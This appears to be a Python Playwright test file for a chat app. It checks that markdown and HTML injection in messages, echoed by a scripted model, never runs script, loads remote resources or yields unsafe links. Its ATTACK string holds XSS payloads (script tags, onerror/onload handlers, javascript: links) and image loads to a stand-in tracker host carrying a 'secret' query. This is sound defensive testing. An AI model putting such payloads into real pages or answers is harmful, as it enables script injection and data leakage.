"""Words are words: whatever an answer or a message holds, nothing is loaded and nothing is run."""

from collections.abc import AsyncIterator
from dataclasses import replace
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.async_api import expect

from tests.browser.conftest import OpenTab
from tests.browser.screen import Screen, Watch
from tests.fakes.house import open_studio
from tests.fakes.scripted_model import Say, ScriptedModel

ATTACK = """Look:

![spy](https://tracker.example/pixel.png?q=secret)

<img src="https://tracker.example/raw.png" onerror="globalThis.run = 1">
<script>globalThis.run = 1</script>
<style>@import "https://tracker.example/style.css"; * { display: none }</style>
<iframe src="https://tracker.example/"></iframe>
<svg onload="globalThis.run = 1"></svg>

[press me](javascript:globalThis.run=1) [or me](data:text/html,<script>1</script>)
[a good link](https://example.org/page)

| a | <b onclick="globalThis.run = 1">b</b> |
|---|---|
| ![x](//tracker.example/cell.png) | `code` |

![again]( https://tracker.example/space.png "title" ) <https://tracker.example/auto>
[ref]: https://tracker.example/ref.png
![ref][ref]

The end."""


@pytest.fixture
async def attacked(
    tmp_path: Path, watch: Watch, open_tab: OpenTab, user: str
) -> AsyncIterator[Screen]:
    """A person says it, and the model says it back. The page's watch lets no stranger be asked."""
    model = ScriptedModel(
        lambda _request: [Say(tuple(ATTACK[i : i + 7] for i in range(0, len(ATTACK), 7)))]
    )
    async with open_studio(
        tmp_path / "data", adapters=lambda given: replace(given, chat_model=model)
    ) as house:
        watch.hosts.add(urlsplit(house.url).netloc)
        screen = await open_tab(f"{house.url}/#token={house.token(user)}")
        await screen.composer.fill(ATTACK)
        await screen.composer.press("Enter")
        await screen.answered()
        await expect(screen.answers.last).to_contain_text("The end.")
        yield screen
        await screen.page.close()


async def test_no_script_ran(attacked: Screen):
    assert await attacked.page.evaluate("globalThis.run") is None


async def test_nothing_in_it_became_an_element_that_loads(attacked: Screen):
    await expect(
        attacked.conversation.locator("img, iframe, script, style, svg[onload], object, embed")
    ).to_have_count(0)
    await attacked.picture("10-hostile")


async def test_only_good_links_can_be_followed_and_tell_the_other_side_nothing(attacked: Screen):
    links = attacked.answers.last.locator("a")
    for link in await links.all():
        assert (await link.get_attribute("href") or "").startswith("https://")
        assert "noopener" in (await link.get_attribute("rel") or "")
        assert "noreferrer" in (await link.get_attribute("rel") or "")
    await expect(links.filter(has_text="a good link")).to_have_count(1)


async def test_the_persons_own_words_are_shown_as_they_were_written(attacked: Screen):
    assert (await attacked.said.last.inner_text()).strip() == ATTACK
